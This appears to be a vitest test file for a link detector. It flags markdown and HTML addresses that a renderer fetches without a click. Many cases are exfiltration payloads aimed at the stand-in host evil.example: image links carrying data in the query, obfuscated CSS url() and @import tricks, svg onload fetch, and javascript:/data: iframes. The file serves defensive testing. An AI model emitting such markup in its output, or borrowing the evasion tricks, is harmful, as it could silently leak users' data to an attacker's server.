import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readText } from '../reading/reading';
import { findLinks } from './links';

const linksOf = (text: string) => findLinks(readText(text)).map(({ type, host }) => `${type} ${host}`);

describe('findLinks', () => {
  it.each([
    'See ![chart](https://evil.example/p?d=secret).',
    '![x]( <https://evil.example/a b> )',
    '![x](//evil.example/p)',
    '![see [1]](https://evil.example/p)',
    `![${'a '.repeat(300)}](https://evil.example/p)`,
    '![x](https:\\\\evil.example/p)',
    '![x](https:evil.example/p)',
    'An ![image][1] here.\n\n[1]: https://evil.example/p',
    '<img alt="a" src="https://evil.example/p.png">',
    "<IMG/src='https://EVIL.example:8443/p'>",
    '<img srcset="https://evil.example/p 2x">',
    '<iframe src=https://evil.example/></iframe>',
    '<link rel="stylesheet" href="https://evil.example/s.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<p style="background: url(https://evil.example/p)">',
    '<style>@import "https://evil.example/s.css"</style>',
    '![x](     https://evil.example/p)',
    `![${'a '.repeat(900)}](https://evil.example/p)`,
    '> ![a][1]\n>\n> [1]: https://evil.example/p',
    '- ![a][1]\n\n- [1]: https://evil.example/p',
    '![a][1]\n\n> [1]:\n>   https://evil.example/p',
    '<img alt="a>b" src="https://evil.example/p">',
    `<img${' '.repeat(300)}src="https://evil.example/p">`,
    `<img alt='${'a'.repeat(320)}' src = https://evil.example/p>`,
    `<svg><image foo="${'a'.repeat(260)}" href='https://evil.example/p'>`,
    '<script>fetch("https://evil.example/p")</script>',
    `<a title="x <img alt='${'a'.repeat(320)}' src=https://evil.example/p>`,
    `<a title="${'a'.repeat(320)} <img src=https://evil.example/p>"x>`,
    `<a title='it"s <b c="d" <img ${'a'.repeat(320)} src="https://evil.example/p">`,
    `<img alt="<b c='d'>" ${'a'.repeat(320)} src=https://evil.example/p>`,
    `![${'a '.repeat(900)}\`]\`](https://evil.example/p)`,
    `<style>p { background: url(${' '.repeat(20)}"https://evil.example/p") }</style>`,
    '[more](https://evil.example/?q=[EMAIL_1])',
    '![a](https\\://evil.example/p)',
    '![a](\\/\\/evil.example/p)',
    '![a](https&colon;//evil.example/p)',
    '<img src="https&colon;&sol;&sol;evil.example">',
    '<img src="ht\ttps://evil.example/p">',
    '<img src="ht&Tab;tps://evil.example/p">',
    `<p style="background: url(${' '.repeat(30)}https://evil.example/p)">`,
    `p { background: url(${' '.repeat(30)}https://evil.example/p) }`,
    'p { background: url(/**/"https://evil.example/p") }',
    '@import/**/ /* a */"https://evil.example/s.css"',
    'p { background: image-set("https://evil.example/p" 1x) }',
    'p { background: -webkit-image-set("a.png" type("image/png"), "https://evil.example/p" 2x) }',
    '<p style="background: url(\\68ttps://evil.example/p)">',
    '<p style="background: url(\\000068 ttps:\\2f\\2f evil.example/p)">',
    '<p style="background: \\75rl(https://evil.example/p)">',
    '<p style="background: u\\rl(https://evil.example/p)">',
    '<style>@\\69mport "https://evil.example/s.css"</style>',
    '<style>@import "ht\\\ntps://evil.example/s.css"</style>',
    '<style>@namespace "https://evil.example/p"</style>',
    '<svg onload=fetch("//evil.example")>',
    '<a ping="https://evil.example/p" href="#">a</a>',
    '<img data-src="https://evil.example/p">',
    '<img srcset="a.png 1x,//evil.example/p 2x">',
    '<svg><image><set attributeName="href" to="https://evil.example/p"/></image></svg>',
    'https://evil.example/%5BCARD_1%5D',
  ])('says what is fetched without a click in %j', (text) => {
    expect(linksOf(text)).toEqual(['FETCHED_LINK evil.example']);
  });

  it.each([
    ['Read https://docs.example.org/a.', 'docs.example.org'],
    ['[docs](https://docs.example.org/a)', 'docs.example.org'],
    ['![x](a.png) and [docs](https://docs.example.org/a)', 'docs.example.org'],
    ['<script src="a.js"></script><a title="a>b" href="https://docs.example.org">docs</a>', 'docs.example.org'],
    ['<a href="https://docs.example.org">docs</a>', 'docs.example.org'],
    ['<a title="<b>" href="https://docs.example.org">docs</a>', 'docs.example.org'],
    ['<a href="/away?src=https://docs.example.org/a">docs</a>', 'docs.example.org'],
    ['![x]\n\n[docs](https://docs.example.org/a)', 'docs.example.org'],
    ['www.example.org has it', 'www.example.org'],
    ['[docs][1]\n\n[1]: https://docs.example.org/a', 'docs.example.org'],
    ['https://user@bücher.example/', 'xn--bcher-kva.example'],
  ])('says where a click leads to in %j', (text, host) => {
    expect(linksOf(text)).toEqual([`LINK ${host}`]);
  });

  it.each([
    '<iframe src="data:text/html;base64,PHNjcmlwdD4=">',
    '<iframe src=" da\nta:text/html,hello">',
    "<object data='data:text/html,hello'>",
    '<script src=data:text/javascript,alert(1)></script>',
    '<iframe src="javascript:alert(1)">',
    '<iframe src="data:image/svg+xml,<svg/>">',
    '<link rel=stylesheet href="data:text/css,p{}">',
  ])('takes a document in an address for a fetched one without a host in %j', (text) => {
    expect([...new Set(linksOf(text))]).toEqual(['FETCHED_LINK ']);
  });

  it.each([
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '<link rel=icon href="data:image/png;base64,iVBORw0KGgo=">',
  ])('leaves an image that is in its address: %s', (text) => {
    expect(linksOf(text)).toEqual([]);
  });

  it.each(['https://ok.example\\.evil.example/p', 'https://evil.example\\.ok.example/p'])(
    'tells no host for %j, in which a backslash is a slash for some readers',
    (address) => {
      expect(linksOf(`![a](${address})`)).toEqual(['FETCHED_LINK ']);
    },
  );

  it('finds an address of CSS whose escape JSON has escaped once more', () => {
    expect(linksOf('p { background: url(\\\\68ttps://evil.example/p) }')).toContain('FETCHED_LINK evil.example');
  });

  it('takes no backslash of other languages for an address', () => {
    expect(linksOf('$\\frac{a}{b}$ in C:\\bad\\face, url(a.png) and \\url{x}')).toEqual([]);
  });

  it('finds the host behind a line break that a browser drops', () => {
    expect(linksOf('<img src="https://ok.example\n.evil.example/p">')).toContain(
      'FETCHED_LINK ok.example.evil.example',
    );
  });

  it('says what is fetched when its text is a link', () => {
    const text = '![[l](https://ok.example)](https://evil.example)';
    expect(linksOf(text)).toContain('FETCHED_LINK evil.example');
  });

  it.each(['a // comment', 'and/or', 'C:\\\\temp', 'https', '12:30', ''])('finds none in %j', (text) => {
    expect(linksOf(text)).toEqual([]);
  });

  it('gives the address exactly, without the full stop behind it', () => {
    const text = 'Go to https://example.org/a?b=c. Then stop.';
    expect(findLinks(readText(text)).map(({ start, end }) => text.slice(start, end))).toEqual([
      'https://example.org/a?b=c',
    ]);
  });

  it('never throws, whatever the text', () => {
    const parts = fc.constantFrom(
      'https:',
      '//',
      '[',
      ']',
      '(',
      ')',
      '![',
      '<img src=',
      'a',
      '.',
      '\ud800',
      '\u202e',
      '%00',
    );
    fc.assert(
      fc.property(fc.array(parts, { maxLength: 40 }), (pieces) => {
        const text = pieces.join('');
        for (const { start, end } of findLinks(readText(text))) {
          expect(start).toBeLessThan(end);
          expect(end).toBeLessThanOrEqual(text.length);
        }
      }),
    );
  });
});
